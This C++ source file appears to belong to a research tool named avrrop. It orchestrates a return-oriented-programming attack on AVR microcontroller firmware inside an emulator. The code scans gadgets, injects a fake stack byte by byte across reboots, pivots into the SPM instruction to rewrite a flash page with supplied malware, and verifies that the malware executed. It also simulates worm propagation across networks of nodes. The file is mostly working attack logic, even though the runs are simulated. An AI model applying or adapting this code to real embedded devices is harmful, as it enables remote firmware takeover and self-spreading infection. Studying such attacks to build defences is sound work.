#include "avrrop/campaign.hpp"

#include <fmt/format.h>

#include <algorithm>
#include <nlohmann/json.hpp>
#include <random>

#include "avrrop/error.hpp"

namespace avrrop {

namespace {

bool region_holds(const MachineState& m, const InjectionSchedule& s, std::size_t upto) {
  for (std::size_t n = 0; n < upto && n < s.writes.size(); ++n) {
    if (m.read_data(s.writes[n].first) != s.writes[n].second) return false;
  }
  return true;
}

struct Observation {
  bool reached_spm = false;
  bool reached_dest = false;
  bool sentinel = false;
};

// Runs a delivery with a tracer and write hook attached, restoring both after.
RunOutcome observed_delivery(MachineState& m, const std::vector<std::uint8_t>& packet,
                             const DeliveryOptions& opts, std::uint32_t spm_entry,
                             std::uint32_t dest_m, std::uint8_t sentinel_io, Observation& obs) {
  auto saved_tracer = m.tracer;
  auto saved_hook = m.write_hook;
  m.tracer = [&](const TraceRecord& rec) {
    if (rec.pc == spm_entry) obs.reached_spm = true;
    if (rec.pc == dest_m) obs.reached_dest = true;
    if (saved_tracer) saved_tracer(rec);
  };
  m.write_hook = [&](std::uint16_t addr, std::uint8_t value) {
    if (addr == 0x20 + sentinel_io && (value & 0x04)) obs.sentinel = true;
    if (saved_hook) saved_hook(addr, value);
  };
  RunOutcome out;
  try {
    out = deliver_packet(m, packet, opts);
  } catch (...) {
    m.tracer = saved_tracer;
    m.write_hook = saved_hook;
    throw;
  }
  m.tracer = saved_tracer;
  m.write_hook = saved_hook;
  return out;
}

}  // namespace

std::string Failure::describe() const {
  switch (stage) {
    case FailureStage::InjectionByte: return fmt::format("InjectionByte({})", index);
    case FailureStage::Pivot: return "Pivot";
    case FailureStage::Flash: return "Flash";
    case FailureStage::Execute: return "Execute";
  }
  return "?";
}

std::string report_json(const AttackReport& r) {
  nlohmann::ordered_json j;
  j["packets_sent"] = r.packets_sent;
  j["reboots_observed"] = r.reboots_observed;
  j["schedule_verified"] = r.schedule_verified;
  j["flash_verified"] = r.flash_verified;
  j["malware_executed"] = r.malware_executed;
  j["failure_stage"] = r.failure_stage ? nlohmann::ordered_json(r.failure_stage->describe())
                                       : nlohmann::ordered_json(nullptr);
  j["detail"] = r.detail;
  return j.dump(2) + "\n";
}

AttackKit prepare_attack(const FirmwareImage& image, const SynthesisConstraints& constraints) {
  const auto catalog = scan_gadgets(image);
  AttackKit kit;
  kit.constraints = constraints;
  kit.injection = synthesize_chain(catalog, ChainGoal::write_byte(), constraints).front();
  kit.reprogram = synthesize_chain(catalog, ChainGoal::reprogram(), constraints).front();
  return kit;
}

AttackReport run_byte_injection(MachineState& machine, const GadgetChain& chain,
                                const InjectionSchedule& schedule,
                                const SynthesisConstraints& constraints,
                                const std::function<bool()>& drop_packet) {
  AttackReport report;
  DeliveryOptions opts;
  opts.max_payload = constraints.max_packet_payload;
  for (std::size_t i = 0; i < schedule.writes.size(); ++i) {
    const auto [addr, value] = schedule.writes[i];
    const auto fail = [&](std::string why) {
      report.failure_stage = Failure{FailureStage::InjectionByte, static_cast<std::uint32_t>(i)};
      report.detail = std::move(why);
      return report;
    };
    report.packets_sent += 1;
    if (drop_packet && drop_packet()) return fail("packet lost");
    const auto payload = emit_injection_payload(chain, addr, value, constraints);
    const RunOutcome out = deliver_packet(machine, payload, opts);
    if (out.kind != StopKind::SoftReboot) return fail(out.describe());
    report.reboots_observed += 1;
    const bool intact = region_holds(machine, schedule, i + 1);
    soft_reboot(machine);
    if (!intact) {
      return fail(fmt::format("bytes before 0x{:04x} did not persist across the reboot", addr));
    }
  }
  report.schedule_verified = region_holds(machine, schedule, schedule.writes.size());
  if (!report.schedule_verified) {
    report.failure_stage = Failure{FailureStage::InjectionByte,
                                   static_cast<std::uint32_t>(schedule.writes.size())};
    report.detail = "fake stack changed after the last reboot";
  }
  return report;
}

AttackReport run_full_attack(MachineState& machine, const AttackKit& kit,
                             const std::vector<std::uint8_t>& malware, std::uint32_t dest_m,
                             std::uint16_t fsp, const AttackOptions& opts) {
  if (!kit.reprogram.spm_entry) throw Error(ErrorCode::InvalidArgument, "reprogramming chain lacks an SPM entry");
  const FakeStack fs = build_fake_stack(malware, dest_m, *kit.reprogram.spm_entry, opts.post_action);

  AttackReport report;
  std::vector<std::uint8_t> packet;
  DeliveryOptions delivery;
  delivery.max_payload = kit.constraints.max_packet_payload;

  if (!opts.single_packet) {
    const InjectionSchedule schedule = injection_schedule(fs, fsp, machine.layout);
    report = run_byte_injection(machine, kit.injection, schedule, kit.constraints, opts.drop_packet);
    if (report.failure_stage) return report;
    packet = emit_reprogramming_payload(kit.reprogram, static_cast<std::uint16_t>(fsp - 1), kit.constraints);
  } else {
    const auto rx = machine.image->data_symbol("rx_msg");
    if (!rx) throw Error(ErrorCode::MissingSymbol, "data symbol rx_msg");
    const auto head_len = static_cast<std::uint16_t>(kit.constraints.padding_prefix + kit.reprogram.payload_length);
    fsp = static_cast<std::uint16_t>(*rx + 1 + head_len);
    packet = emit_reprogramming_payload(kit.reprogram, static_cast<std::uint16_t>(fsp - 1), kit.constraints);
    const auto body = fs.serialize(fsp);
    packet.insert(packet.end(), body.begin(), body.end());
    delivery.max_payload = packet.size();
    delivery.copy_length = static_cast<std::uint8_t>(head_len);
    report.schedule_verified = true;
  }

  report.packets_sent += 1;
  if (opts.drop_packet && opts.drop_packet()) {
    report.failure_stage = Failure{FailureStage::Pivot, 0};
    report.detail = "reprogramming packet lost";
    return report;
  }
  Observation obs;
  const RunOutcome out = observed_delivery(machine, packet, delivery, *kit.reprogram.spm_entry, dest_m,
                                           opts.sentinel_io, obs);
  const auto page = inspect(machine, Space::Flash, dest_m, kPageWords);
  report.flash_verified = obs.reached_spm && std::equal(page.begin(), page.end(), fs.malware_page.begin());
  report.malware_executed = report.flash_verified && obs.reached_dest && obs.sentinel;
  if (out.kind == StopKind::SoftReboot) {
    report.reboots_observed += 1;
    soft_reboot(machine);
  }
  report.detail = out.describe();
  if (!obs.reached_spm) {
    report.failure_stage = Failure{FailureStage::Pivot, 0};
  } else if (!report.flash_verified) {
    report.failure_stage = Failure{FailureStage::Flash, 0};
  } else if (opts.post_action == PostAction::ExecuteMalware && !report.malware_executed) {
    report.failure_stage = Failure{FailureStage::Execute, 0};
  } else if (opts.post_action == PostAction::Reboot && out.kind != StopKind::SoftReboot) {
    report.failure_stage = Failure{FailureStage::Execute, 0};
  }
  return report;
}

AttackReport evaluate_countermeasure(MachineState& machine, const AttackKit& kit,
                                     const std::vector<std::uint8_t>& malware, std::uint32_t dest_m,
                                     std::uint16_t fsp, const AttackOptions& opts) {
  return run_full_attack(machine, kit, malware, dest_m, fsp, opts);
}

void WormConfig::validate() const {
  if (node_count < 1 || node_count > 64) throw Error(ErrorCode::InvalidArgument, "node_count must be in 1..64");
  if (!(loss_probability >= 0.0 && loss_probability < 1.0)) {
    throw Error(ErrorCode::InvalidArgument, "loss probability must be in [0, 1)");
  }
  if (initial_infected >= node_count) throw Error(ErrorCode::InvalidArgument, "initial_infected out of range");
}

std::vector<std::vector<std::uint32_t>> adjacency(std::uint32_t nodes, Topology topology) {
  std::vector<std::vector<std::uint32_t>> adj(nodes);
  for (std::uint32_t u = 0; u < nodes; ++u) {
    for (std::uint32_t v = 0; v < nodes; ++v) {
      if (u == v) continue;
      const std::uint32_t d = u > v ? u - v : v - u;
      bool linked = false;
      switch (topology) {
        case Topology::Line: linked = d == 1; break;
        case Topology::Ring: linked = d == 1 || (nodes > 2 && d == nodes - 1); break;
        case Topology::Complete: linked = true; break;
      }
      if (linked) adj[u].push_back(v);
    }
  }
  return adj;
}

PropagationReport simulate_worm(const FirmwareImage& image, const std::vector<std::uint8_t>& malware,
                                const WormConfig& config) {
  config.validate();
  const auto shared = std::make_shared<const FirmwareImage>(image);
  const AttackKit kit = prepare_attack(image);
  std::vector<MachineState> nodes;
  for (std::uint32_t n = 0; n < config.node_count; ++n) nodes.push_back(boot(shared));
  const auto adj = adjacency(config.node_count, config.topology);

  std::mt19937_64 rng(config.rng_seed);
  PropagationReport report;
  bool lost = false;
  const auto drop = [&] {
    report.packets_transmitted += 1;
    const double u = static_cast<double>(rng() >> 11) * 0x1.0p-53;
    lost = u < config.loss_probability;
    return lost;
  };

  std::vector<bool> infected(config.node_count, false);
  infected[config.initial_infected] = true;
  const auto count = [&] { return static_cast<std::uint32_t>(std::count(infected.begin(), infected.end(), true)); };
  report.infected_per_round.push_back(count());
  if (count() == config.node_count) report.rounds_to_full_infection = 0;

  AttackOptions opts;
  opts.drop_packet = drop;
  for (std::uint32_t round = 1; round <= config.max_rounds && !report.rounds_to_full_infection; ++round) {
    const std::vector<bool> attackers = infected;
    for (std::uint32_t u = 0; u < config.node_count; ++u) {
      if (!attackers[u]) continue;
      for (std::uint32_t v : adj[u]) {
        if (infected[v]) continue;
        lost = false;
        const AttackReport r = run_full_attack(nodes[v], kit, malware, config.dest_m, config.fsp, opts);
        if (r.malware_executed) {
          infected[v] = true;
        } else if (lost) {
          report.incomplete_image_events += 1;
        }
      }
    }
    report.infected_per_round.push_back(count());
    if (count() == config.node_count) report.rounds_to_full_infection = round;
  }
  return report;
}

std::string propagation_json(const PropagationReport& r, const WormConfig& c) {
  nlohmann::ordered_json j;
  const char* topo[] = {"line", "ring", "complete"};
  j["config"] = {{"node_count", c.node_count},
                 {"topology", topo[static_cast<int>(c.topology)]},
                 {"loss_probability", c.loss_probability},
                 {"rng_seed", c.rng_seed},
                 {"initial_infected", c.initial_infected},
                 {"max_rounds", c.max_rounds}};
  j["infected_per_round"] = r.infected_per_round;
  j["rounds_to_full_infection"] = r.rounds_to_full_infection ? nlohmann::ordered_json(*r.rounds_to_full_infection)
                                                             : nlohmann::ordered_json(nullptr);
  j["packets_transmitted"] = r.packets_transmitted;
  j["incomplete_image_events"] = r.incomplete_image_events;
  return j.dump(2) + "\n";
}

std::string propagation_csv(const PropagationReport& r) {
  std::string out = "round,infected_count\n";
  for (std::size_t n = 0; n < r.infected_per_round.size(); ++n) {
    out += fmt::format("{},{}\n", n, r.infected_per_round[n]);
  }
  return out;
}

}  // namespace avrrop
